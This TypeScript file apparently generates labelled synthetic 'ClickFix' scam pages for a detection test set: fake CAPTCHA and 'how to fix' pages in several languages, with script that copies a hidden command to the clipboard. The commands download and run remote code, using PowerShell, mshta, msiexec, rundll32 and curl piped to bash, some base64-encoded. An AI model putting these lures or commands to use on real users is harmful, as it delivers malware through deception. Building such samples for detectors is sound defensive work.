import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { badPlace, urlAt } from '../make/hosts/hosts.ts'
import { kitExtras, wayTo } from '../make/kits/brand-kit.ts'
import { documentOf, escaped } from '../make/pages/layout.ts'
import type { Language } from '../make/words/words.ts'

interface Steps {
  readonly language: Language
  readonly title: string
  readonly steps: readonly [string, string, string]
  readonly done: string
}

const WINDOWS: readonly Steps[] = [
  {
    language: 'en',
    title: 'Verify you are human',
    steps: [
      'Press and hold the Windows Key + R.',
      'In the verification window, press Ctrl + V.',
      'Press Enter on your keyboard to finish.',
    ],
    done: 'You will observe and agree: "I am not a robot - reCAPTCHA Verification ID: 8253"',
  },
  {
    language: 'en',
    title: 'Word Online extension is not installed',
    steps: [
      'Click the "How to fix" button.',
      'Open Windows PowerShell (Win + X, then I).',
      'Right-click to paste the fix and press Enter.',
    ],
    done: 'To view the document offline you need to install the extension.',
  },
  {
    language: 'en',
    title: 'Your browser could not load this page',
    steps: [
      'Copy the file path below.',
      'Open File Explorer and select the address bar (CTRL + L).',
      'Paste the path and press Enter.',
    ],
    done: 'C:\\company\\internal-secure\\filedrive\\HRPolicy.docx',
  },
  {
    language: 'de',
    title: 'Bestätigen Sie, dass Sie ein Mensch sind',
    steps: [
      'Drücken Sie die Windows-Taste + R.',
      'Drücken Sie Strg + V, um einzufügen.',
      'Drücken Sie die Eingabetaste.',
    ],
    done: 'Verifizierungsschritte',
  },
  {
    language: 'fr',
    title: 'Vérifiez que vous êtes humain',
    steps: ['Appuyez sur la touche Windows + R.', 'Appuyez sur Ctrl + V pour coller.', 'Appuyez sur Entrée.'],
    done: 'Étapes de vérification',
  },
  {
    language: 'es',
    title: 'Verifica que eres humano',
    steps: ['Pulsa la tecla Windows + R.', 'Pulsa Ctrl + V para pegar.', 'Pulsa Intro para terminar.'],
    done: 'Pasos de verificación',
  },
  {
    language: 'ja',
    title: 'あなたが人間であることを確認してください',
    steps: ['Windowsキー + R を押します。', 'Ctrl + V を押して貼り付けます。', 'Enterキーを押します。'],
    done: '認証手順',
  },
  {
    language: 'pt',
    title: 'Verifique se você é humano',
    steps: ['Pressione a tecla Windows + R.', 'Pressione Ctrl + V para colar.', 'Pressione Enter.'],
    done: 'Etapas de verificação',
  },
]

const MAC: Steps = {
  language: 'en',
  title: 'Verify you are human',
  steps: [
    'Press Command + Space and type Terminal.',
    'Press Command + V to paste the verification.',
    'Press Return.',
  ],
  done: 'Cloudflare needs to review the security of your connection.',
}

export const clickfix: Family = {
  id: 'clickfix',
  expected: 'dangerous',
  split: 'dev',
  make(chance) {
    const isMac = chance.maybe(0.15)
    const { language, title, steps, done } = isMac ? MAC : chance.of(WINDOWS)
    const server = `${chance.name(3)}.${chance.of(['shop', 'com', 'xyz', 'top', 'icu'])}`
    const command = isMac ? macCommand(server, chance) : windowsCommand(server, chance)
    const list = `<ol>${steps.map((step) => `<li>${escaped(step)}</li>`).join('')}</ol>`
    const main = `<div class="box" id="check"><input type="checkbox" id="cb"> ${escaped(title)}</div><div class="steps" style="display:${chance.of(['none', 'block'])}"><p>${escaped(done)}</p>${list}<button id="go">${chance.of(['Verify', 'OK', 'Copy', 'How to fix'])}</button></div>`
    const site = chance.of(['Just a moment...', 'reCAPTCHA', 'Security check', title, 'Robot or human?'])
    const body = documentOf(
      {
        language,
        title: site,
        heading: title,
        main,
        scripts: `<script>${copyCode(command, chance)}</script>${kitExtras(chance)}`,
        footer: chance.maybe(0.5) ? `Ray ID: ${chance.hex(16)} Performance &amp; security by Cloudflare` : '',
      },
      chance,
    )
    const url = urlAt(badPlace(null, chance))
    return { url, body, way: wayTo(url, chance), isHonest: false }
  },
}

function windowsCommand(server: string, chance: Chance): string {
  const comment = chance.maybe(0.5)
    ? ` # "I am not a robot - reCAPTCHA Verification ID: ${chance.digits(4)}"`
    : ''
  return (
    chance.of([
      `powershell -w hidden -enc ${Buffer.from(`iex(iwr https://${server}/a)`, 'utf16le').toString('base64')}`,
      `powershell.exe -NoP -W Hidden -C "iex (iwr -useb 'https://${server}/f.txt').Content"`,
      `mshta https://${server}/verify.hta`,
      `cmd /c start /min powershell -c "irm ${server}/1.ps1|iex"`,
      `msiexec /i https://${server}/x.msi /qn`,
      `cmd.exe /c curl.exe -k -o %temp%\\u.vbs https://${server}/u & wscript %temp%\\u.vbs`,
      `rundll32.exe \\\\${server}@80\\share\\v.dll,Start`,
    ]) + comment
  )
}

function macCommand(server: string, chance: Chance): string {
  return chance.of([
    `curl -fsSL https://${server}/i.sh | bash`,
    `echo "${Buffer.from(`curl -s ${server}/u | sh`).toString('base64')}" | base64 -d | bash`,
    `/bin/bash -c "$(curl -fsSL https://${server}/install)"`,
  ])
}

function copyCode(command: string, chance: Chance): string {
  const quoted = JSON.stringify(command)
  const half = command.length >> 1
  const text = chance.of([
    () => quoted,
    () => `atob("${Buffer.from(command, 'latin1').toString('base64')}")`,
    () => `${JSON.stringify(command.slice(0, half))}+${JSON.stringify(command.slice(half))}`,
    () => quoted,
  ])()
  const show = 'document.querySelector(".steps").style.display="block";'
  return chance.of([
    `var cmd=${text};document.getElementById("cb").onclick=function(){navigator.clipboard.writeText(cmd);${show}};`,
    `function c(){const t=document.createElement("textarea");t.value=${text};document.body.append(t);t.select();document.execCommand("copy");t.remove();${show}}document.getElementById("check").addEventListener("click",c);document.getElementById("go").addEventListener("click",c);`,
    `const command = ${text};\nasync function verify() { try { await navigator.clipboard.writeText(command) } catch (e) {} ${show} }\ndocument.getElementById("go").onclick = verify;`,
  ])
}
